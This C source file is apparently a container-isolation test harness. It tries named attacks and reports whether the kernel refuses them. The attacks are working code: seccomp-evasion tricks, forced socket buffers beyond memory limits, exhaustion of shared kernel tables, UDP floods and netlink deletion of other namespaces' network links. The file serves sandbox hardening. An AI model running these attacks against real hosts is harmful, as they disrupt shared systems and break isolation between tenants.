/*
 * attacks: what root in a container may try on the host and on other labs, one attack for each name.
 *
 *     attacks <name> [<number> ...]
 *
 * Prints what it got, and exits with 0 if the kernel let it happen, with 1 and the error if it was refused.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <linux/rtnetlink.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#define COUNT(array) (sizeof(array) / sizeof(array)[0])
/* The kernel reads an int from the lower half. A filter may compare all of it. */
#define WITH_UPPER_HALF(number) ((number) | 1L << 32)

static long numbers[4];

static int outcome(long result)
{
    if (result < 0) {
        printf("refused: %s\n", strerrorname_np(errno));
        return 1;
    }
    printf("done: %ld\n", result);
    return 0;
}

/* ---- System calls --------------------------------------------------------------------------- */

static int open_family(void)
{
    return outcome(syscall(SYS_socket, numbers[0], SOCK_RAW, 0)) &&
           outcome(syscall(SYS_socket, numbers[0], SOCK_STREAM, 0)) &&
           outcome(syscall(SYS_socket, numbers[0], SOCK_SEQPACKET, 0));
}

static int open_family_with_upper_half(void)
{
    numbers[0] = WITH_UPPER_HALF(numbers[0]);
    return open_family();
}

static int io_uring(void)
{
    char parameters[120] = {0};
    return outcome(syscall(SYS_io_uring_setup, 8, parameters));
}

static int add_key(void)
{
    return outcome(syscall(SYS_add_key, "user", "a", "b", 1, -4 /* the user's keyring */));
}

static int keyctl(void)
{
    return outcome(syscall(SYS_keyctl, 0, -4, 1));
}

static int request_key(void)
{
    return outcome(syscall(SYS_request_key, "user", "a", 0, -4));
}

static int new_user_namespace(void)
{
    return outcome(unshare(CLONE_NEWUSER));
}

static int userfault(void)
{
    return outcome(syscall(SYS_userfaultfd, 1));
}

/* ---- Memory outside the container's limit ---------------------------------------------------- */

static int force_option(long option)
{
    int socket_fd = socket(AF_INET, SOCK_DGRAM, 0);
    int size = 64 << 20;
    return outcome(syscall(SYS_setsockopt, socket_fd, SOL_SOCKET, option, &size, sizeof size));
}

static int receive_buffer(void)
{
    return force_option(SO_RCVBUFFORCE);
}

static int receive_buffer_with_upper_half(void)
{
    return force_option(WITH_UPPER_HALF(SO_RCVBUFFORCE));
}

static int send_buffer(void)
{
    return force_option(SO_SNDBUFFORCE);
}

/* Asks for a receiving ring of so many MiB. */
static int one_ring_of(unsigned megabytes)
{
    struct tpacket_req ring = {1 << 20, megabytes, 2048, megabytes << 9};
    return setsockopt(socket(AF_PACKET, SOCK_RAW, 0), SOL_PACKET, PACKET_RX_RING, &ring, sizeof ring);
}

static int ring(void)
{
    return outcome(one_ring_of((unsigned)numbers[0]));
}

/* 32-bit system calls take other ways through the kernel. */
static int ring_of_32_bit(void)
{
#ifdef __x86_64__
    static struct tpacket_req ring = {1 << 20, 64, 2048, 64 << 9};
    long result = 366; /* setsockopt */
    int packet_fd = socket(AF_PACKET, SOCK_RAW, 0);
    __asm__ volatile("int $0x80"
                     : "+a"(result)
                     : "b"(packet_fd), "c"(SOL_PACKET), "d"(PACKET_RX_RING), "S"(&ring), "D"((int)sizeof ring)
                     : "memory", "r8", "r9", "r10", "r11");
    errno = (int)-result;
    return outcome(result < 0 ? -1 : 0);
#else
    raise(SIGSYS);
    return 1;
#endif
}

/* An ordinary program's options, which have to work. */
static int ordinary_options(void)
{
    int socket_fd = socket(AF_INET, SOCK_STREAM, 0);
    int packet_fd = socket(AF_PACKET, SOCK_RAW, 0);
    int netlink_fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
    int on = 1;
    int size = 65536;
    int version = TPACKET_V2;
    struct tpacket_req ring = {4096, 4, 2048, 8};
    struct {
        int fd, level, option;
        const void *value;
        socklen_t length;
    } tries[] = {
        {socket_fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on},
        {socket_fd, SOL_SOCKET, SO_RCVBUF, &size, sizeof size},
        {socket_fd, SOL_SOCKET, SO_TIMESTAMP, &on, sizeof on},
        {socket_fd, SOL_SOCKET, SO_MARK, &on, sizeof on},
        {socket_fd, SOL_SOCKET, SO_INCOMING_CPU, &on, sizeof on},
        {socket_fd, IPPROTO_TCP, 1 /* TCP_NODELAY */, &on, sizeof on},
        {socket_fd, IPPROTO_IP, 1 /* IP_TOS */, &on, sizeof on},
        {netlink_fd, 270 /* SOL_NETLINK */, 11 /* NETLINK_EXT_ACK */, &on, sizeof on},
        {packet_fd, SOL_PACKET, PACKET_VERSION, &version, sizeof version},
        {packet_fd, SOL_PACKET, PACKET_RX_RING, &ring, sizeof ring},
    };
    int failed = 0;
    for (unsigned i = 0; i < COUNT(tries); i++)
        failed |= outcome(setsockopt(tries[i].fd, tries[i].level, tries[i].option, tries[i].value,
                                     tries[i].length));
    return failed;
}

/* ---- Tables that all containers share -------------------------------------------------------- */

static int take(const char *what, int (*one)(void))
{
    long count = 0;
    while (count < numbers[0] && one() >= 0)
        count++;
    printf("%s: %ld%s%s\n", what, count, count < numbers[0] ? " " : "",
           count < numbers[0] ? strerrorname_np(errno) : "");
    fflush(stdout);
    /* Holds them until it is killed. */
    if (numbers[1])
        sleep((unsigned)numbers[1]);
    return 0;
}

static int one_terminal(void)
{
    return open("/dev/ptmx", O_RDWR | O_NOCTTY);
}

static int terminals(void)
{
    return take("terminals", one_terminal);
}

static int one_ring(void)
{
    return one_ring_of(2);
}

static int rings(void)
{
    return take("rings", one_ring);
}

static int one_inotify(void)
{
    return inotify_init1(0);
}

static int inotify(void)
{
    return take("inotify", one_inotify);
}

/* Sends to so many addresses of 10.200.0.0/16, which has to be on a link of this container. */
static int neighbours(void)
{
    long sent = 0;
    for (long i = 0; i < numbers[0]; i++) {
        /* What waits for an answer to ARP fills a socket. */
        int socket_fd = socket(AF_INET, SOCK_DGRAM, 0);
        struct sockaddr_in to = {.sin_family = AF_INET,
                                 .sin_port = htons(9),
                                 .sin_addr.s_addr = htonl(0x0ac80002u + (unsigned)i)};
        sent += sendto(socket_fd, "x", 1, 0, (struct sockaddr *)&to, sizeof to) == 1;
        close(socket_fd);
    }
    printf("neighbours: %ld\n", sent);
    return 0;
}

/* The same for fd00:200::/64. */
static int neighbours6(void)
{
    long sent = 0;
    for (long i = 0; i < numbers[0]; i++) {
        int socket_fd = socket(AF_INET6, SOCK_DGRAM, 0);
        struct sockaddr_in6 to = {.sin6_family = AF_INET6, .sin6_port = htons(9)};
        inet_pton(AF_INET6, "fd00:200::", &to.sin6_addr);
        to.sin6_addr.s6_addr[14] = (unsigned char)((i + 2) >> 8);
        to.sin6_addr.s6_addr[15] = (unsigned char)(i + 2);
        sent += sendto(socket_fd, "x", 1, 0, (struct sockaddr *)&to, sizeof to) == 1;
        close(socket_fd);
    }
    printf("neighbours: %ld\n", sent);
    return 0;
}

/* Sends datagrams to port 9 of 10.0.1.11 for so many seconds, as many as it can. */
static int flood(void)
{
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(9), .sin_addr.s_addr = htonl(0x0a00010bu)};
    int socket_fd = socket(AF_INET, SOCK_DGRAM, 0);
    long sent = 0;
    for (time_t end = time(0) + numbers[0]; time(0) < end;)
        for (int i = 0; i < 64; i++)
            sent += sendto(socket_fd, "x", 1, 0, (struct sockaddr *)&to, sizeof to) == 1;
    printf("sent: %ld\n", sent);
    return 0;
}

/* Sends to port 53 of the gateway 10.0.1.1 from so many ports. Each one is a connection. */
static int flows(void)
{
    static const char question[17]; /* the shortest one */
    long sent = 0;
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(53), .sin_addr.s_addr = htonl(0x0a000101u)};
    for (long i = 0; i < numbers[0]; i++) {
        int socket_fd = socket(AF_INET, SOCK_DGRAM, 0);
        struct sockaddr_in from = {.sin_family = AF_INET, .sin_port = htons((unsigned short)(1024 + i))};
        sent += bind(socket_fd, (struct sockaddr *)&from, sizeof from) == 0 &&
                sendto(socket_fd, question, sizeof question, 0, (struct sockaddr *)&to, sizeof to) > 0;
        close(socket_fd);
    }
    printf("flows: %ld\n", sent);
    return 0;
}

/* Keeps the first processor busy. */
static int spin(void)
{
    cpu_set_t first;
    CPU_ZERO(&first);
    CPU_SET(0, &first);
    sched_setaffinity(0, sizeof first, &first);
    static volatile int always = 1;
    while (always)
        continue;
    return 0;
}

/* ---- Links of other network namespaces -------------------------------------------------------- */

struct request {
    struct nlmsghdr header;
    struct ifinfomsg link;
    struct rtattr attribute;
    int namespace_id;
};

static int ask(struct request *request, char *answer, size_t size)
{
    int netlink = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
    request->header.nlmsg_len = sizeof *request;
    request->attribute = (struct rtattr){RTA_LENGTH(sizeof(int)), IFLA_TARGET_NETNSID};
    if (request->namespace_id < 0)
        request->header.nlmsg_len = NLMSG_LENGTH(sizeof request->link);
    send(netlink, request, request->header.nlmsg_len, 0);
    int got = (int)recv(netlink, answer, size, 0);
    close(netlink);
    return got;
}

/* The links of the namespace with an id; of the container's own for -1. */
static int list_namespace(int id)
{
    static char answer[1 << 18];
    struct request request = {.header = {.nlmsg_type = RTM_GETLINK, .nlmsg_flags = NLM_F_REQUEST | NLM_F_DUMP},
                              .link = {.ifi_family = AF_PACKET},
                              .namespace_id = id};
    int left = ask(&request, answer, sizeof answer);
    int found = 0;
    for (struct nlmsghdr *each = (struct nlmsghdr *)answer; NLMSG_OK(each, left); each = NLMSG_NEXT(each, left)) {
        if (each->nlmsg_type != RTM_NEWLINK)
            continue;
        struct ifinfomsg *link = NLMSG_DATA(each);
        int length = (int)IFLA_PAYLOAD(each);
        for (struct rtattr *part = IFLA_RTA(link); RTA_OK(part, length); part = RTA_NEXT(part, length))
            if (part->rta_type == IFLA_IFNAME && id >= 0) {
                printf("%d %d %s\n", id, link->ifi_index, (char *)RTA_DATA(part));
                found++;
            }
    }
    return found;
}

/* Every link that can be seen by the id of its namespace. */
static int links(void)
{
    int found = 0;
    /* To list its own links gives their peers' namespaces an id. */
    list_namespace(-1);
    for (int id = 0; id < 64; id++)
        found += list_namespace(id);
    printf("%d links\n", found);
    return found == 0;
}

/* Deletes the link with an index in a namespace with an id. */
static int delete_link(void)
{
    char answer[4096] = {0};
    struct request request = {.header = {.nlmsg_type = RTM_DELLINK, .nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK},
                              .link = {.ifi_index = (int)numbers[1]},
                              .namespace_id = (int)numbers[0]};
    ask(&request, answer, sizeof answer);
    struct nlmsgerr *error = NLMSG_DATA((struct nlmsghdr *)answer);
    errno = -error->error;
    return outcome(error->error ? -1 : 0);
}

/* Makes a link in a namespace with an id, and plugs it into the bridge with an index there. */
static int add_link(void)
{
    static const char kind[] = "veth";
    char answer[4096] = {0};
    struct {
        struct nlmsghdr header;
        struct ifinfomsg link;
        struct rtattr id_head;
        int id;
        struct rtattr master_head;
        int master;
        struct rtattr info_head, kind_head;
        char kind[8];
    } request = {
        .header = {sizeof request, RTM_NEWLINK, NLM_F_REQUEST | NLM_F_ACK | NLM_F_CREATE | NLM_F_EXCL, 0, 0},
        .link = {.ifi_family = AF_UNSPEC},
        .id_head = {RTA_LENGTH(sizeof(int)), IFLA_TARGET_NETNSID},
        .id = (int)numbers[0],
        .master_head = {RTA_LENGTH(sizeof(int)), IFLA_MASTER},
        .master = (int)numbers[1],
        .info_head = {RTA_LENGTH(sizeof(struct rtattr) + 8), IFLA_LINKINFO},
        .kind_head = {RTA_LENGTH(sizeof kind), IFLA_INFO_KIND},
    };
    memcpy(request.kind, kind, sizeof kind);
    int netlink = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
    send(netlink, &request, sizeof request, 0);
    recv(netlink, answer, sizeof answer, 0);
    close(netlink);
    struct nlmsgerr *error = NLMSG_DATA((struct nlmsghdr *)answer);
    errno = -error->error;
    return outcome(error->error ? -1 : 0);
}

/* ---- The attacks ------------------------------------------------------------------------------ */

static const struct {
    const char *name;
    int (*run)(void);
} attacks[] = {
    {"family", open_family},
    {"family-with-upper-half", open_family_with_upper_half},
    {"io-uring", io_uring},
    {"add-key", add_key},
    {"keyctl", keyctl},
    {"request-key", request_key},
    {"user-namespace", new_user_namespace},
    {"userfaultfd", userfault},
    {"receive-buffer", receive_buffer},
    {"receive-buffer-with-upper-half", receive_buffer_with_upper_half},
    {"send-buffer", send_buffer},
    {"ordinary-options", ordinary_options},
    {"ring", ring},
    {"ring-of-32-bit", ring_of_32_bit},
    {"rings", rings},
    {"flows", flows},
    {"spin", spin},
    {"terminals", terminals},
    {"inotify", inotify},
    {"neighbours", neighbours},
    {"neighbours6", neighbours6},
    {"flood", flood},
    {"links", links},
    {"delete-link", delete_link},
    {"add-link", add_link},
};

int main(int count, char **arguments)
{
    for (int i = 2; i < count && i < 6; i++)
        numbers[i - 2] = strtol(arguments[i], 0, 0);
    for (unsigned i = 0; i < COUNT(attacks); i++)
        if (count > 1 && strcmp(arguments[1], attacks[i].name) == 0)
            return attacks[i].run();
    fprintf(stderr, "usage: attacks <name> [<number> ...]\n");
    return 2;
}
